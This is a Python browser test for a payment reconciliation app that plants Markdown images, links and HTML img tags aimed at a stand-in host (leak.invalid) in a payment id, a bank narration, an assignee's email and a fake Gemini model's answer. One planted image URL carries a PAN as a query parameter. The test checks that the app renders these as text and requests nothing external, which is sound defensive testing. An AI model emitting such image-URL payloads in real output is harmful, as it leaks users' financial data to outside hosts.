"""Model and data text is shown as text in the real app: Markdown images and links planted in
a payment id, a bank narration, an assignee's name and the model's answer make Chromium
request nothing outside the app (every request is recorded with Playwright)."""

from __future__ import annotations

import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from core.__main__ import main
from core.db import access as access_sql
from core.db import connect
from core.money import format_inr
from core.review import assign
from core.root_causes import sign_contradiction
from tests.app_browser import CHROMIUM, CHROMIUM_ARGS, SCREENSHOTS, running_server, wait_rendered
from tests.conftest import SPEC_EXAMPLE
from tests.fake_gemini import FakeGemini, FakeRequest, Reply, answer
from tests.fake_gemini import running as fake_gemini
from tests.review_support import add_people

playwright_api = pytest.importorskip("playwright.sync_api")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's /usr/bin/chromium"),
]
MODEL = "gemini-3.5-flash-lite"
PAYMENT = "pay_1kvJmI2vh42unq"
ASKED = "pay_2y9rCXCU81tqCV"  # the model is asked about this one (a plain id it can cite)
# An id holds no slash or space since 2026-12-04 (core.ingest.convert refuses them): the
# Markdown it may still hold points at a relative URL, which the page must not render either.
PLANTED_ID = PAYMENT + "![i](leak.invalid)[l](leak.invalid)**b**<img:src=leak.invalid>"
NARRATION_TAIL = " ![n](http://leak.invalid/narration.png)"
# People are verified emails (core.access): no spaces or colons, so protocol-relative URLs.
ASSIGNEE = "ravi![a](//leak.invalid/assignee.png)**bold**<img/src=//leak.invalid/h>@example.in"
MODEL_IMAGE = "![s](http://leak.invalid/leak?pan=ABCDEXYZF)"


def _dataset(tmp_path: Path) -> Path:
    folder = tmp_path / "dataset"
    shutil.copytree(SPEC_EXAMPLE / "dataset", folder)
    for path in folder.iterdir():
        text = path.read_text(encoding="utf-8").replace(PAYMENT, PLANTED_ID)
        if path.name == "bank_statement.csv":
            text = text.replace("POS 4xxxx1234 AMAZON PAY", "POS AMAZON PAY" + NARRATION_TAIL)
        path.write_text(text, encoding="utf-8")
    return folder


def _model_answer(request: FakeRequest) -> Reply:
    evidence = request.evidence()
    exc = evidence["exception"]
    difference = exc.get("difference")
    # A well-behaved model: a cause that fits the sign, the entity and the difference named
    # (the checks would show the rules' answer instead, and nothing planted would be seen).
    cause = next(
        c["root_cause"]
        for c in evidence["allowed_root_causes"]
        if sign_contradiction(c["root_cause"], difference) is None
    )
    figures = [
        a
        for a in (exc.get("expected_amount"), exc.get("actual_amount"), difference)
        if isinstance(a, int) and a
    ]
    said = " and ".join(format_inr(abs(a)) for a in figures)
    return answer(
        {
            "root_cause": cause,
            "confidence": 0.8,
            "summary": f"{exc['entity_id']}: the engine compared {said}. {MODEL_IMAGE}",
            "recommendation": "Open [the portal](http://leak.invalid/portal) " + MODEL_IMAGE,
            "requires_human_review": True,
            "cited_record_ids": [exc["entity_id"]],
            "cited_amounts_paise": [abs(a) for a in figures],
        }
    )


@pytest.fixture
def gemini() -> Iterator[FakeGemini]:
    with fake_gemini() as fake:
        fake.script[MODEL] = _model_answer
        yield fake


def _exception_of(conn: sqlite3.Connection, entity_id: str) -> int:
    row = conn.execute(
        "SELECT id FROM exceptions WHERE entity_id = ? ORDER BY id LIMIT 1", (entity_id,)
    ).fetchone()
    assert row is not None, f"{entity_id} must reach an exception"
    return int(row[0])


def _planted_database(database: str, tmp_path: Path) -> tuple[str, int, int]:
    out = tmp_path / "results.csv"
    args = ["reconcile", str(_dataset(tmp_path)), "--out", str(out), "--db", database]
    assert main([*args, "--as-of", "2026-06-30T23:59:59+05:30"]) == 0
    conn = connect(database)
    try:
        exc_id = _exception_of(conn, PLANTED_ID)
        asked = _exception_of(conn, ASKED)
        add_people(conn, {"lead@example.in": "admin"})
        # core.access refuses such an address since F10; one stored before that still
        # renders as text wherever it is shown (what this test checks)
        with conn:
            access_sql.insert_user(conn, ASSIGNEE, "reviewer", "lead@example.in", 1)
        assign(conn, exc_id, actor="lead@example.in", assignee=ASSIGNEE, request_id="plant-a")
    finally:
        conn.close()
    return database, exc_id, asked


def test_planted_markdown_in_ids_names_narrations_and_answers_fetches_nothing_external(
    db_url: str, tmp_path: Path, gemini: FakeGemini, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The CLI's run and the app anchor the audit head beside a SQLite file; a PostgreSQL
    # database has none, so both are given the anchors' folder.
    monkeypatch.setenv("RAZORRECON_ANCHOR_DIR", str(tmp_path / "anchors"))
    database, exc_id, asked = _planted_database(db_url, tmp_path)
    env = {
        "GEMINI_API_KEY": "test-key",
        "GEMINI_MODELS": f"{MODEL}:10",
        "GOOGLE_GEMINI_BASE_URL": gemini.url,
        "RAZORRECON_ANCHOR_DIR": str(tmp_path / "anchors"),
    }
    with (
        running_server(database, tmp_path / "streamlit.log", env) as server,
        playwright_api.sync_playwright() as p,
    ):
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1440, "height": 2200})
            requested: list[str] = []
            page.on("request", lambda request: requested.append(request.url))

            def outside(route: Any) -> None:
                url = route.request.url
                if url.startswith((server.url, "data:", "blob:", "about:")):
                    route.continue_()
                else:
                    route.abort()

            page.route("**/*", outside)
            for path in ("", "exceptions", "settlement", "audit", "data"):
                page.goto(f"{server.url}/{path}")
                wait_rendered(page)
                page.wait_for_timeout(500)
            page.goto(f"{server.url}/investigation")
            wait_rendered(page)
            shown: list[str] = []
            for target in (exc_id, asked):
                box = page.get_by_label("Exception id")
                box.fill(str(target))
                box.press("Enter")
                page.wait_for_selector(f"text=#{target} ·", timeout=30_000)
                wait_rendered(page)
                page.get_by_role("button", name="Ask the investigator").click()
                page.wait_for_selector("text=Recommendation", timeout=60_000)
                wait_rendered(page)
                page.wait_for_timeout(800)
                shown.append(page.inner_text("body").replace("\u2060", ""))
                assert page.query_selector("img[src*='leak.invalid']") is None
                assert page.query_selector("a[href*='leak.invalid']") is None
            SCREENSHOTS.mkdir(parents=True, exist_ok=True)
            page.screenshot(path=str(SCREENSHOTS / "output-safety.png"), full_page=True)
            # the text is shown as it is, not rendered: ids, names, the model's answer
            assert PLANTED_ID in shown[0]
            assert ASSIGNEE in shown[0]
            assert MODEL_IMAGE in shown[1] and f"Source: {MODEL}" in shown[1]
        finally:
            browser.close()
    assert gemini.requests, "the model was asked"
    external = [u for u in requested if not u.startswith((server.url, "data:", "blob:", "about:"))]
    assert external == []
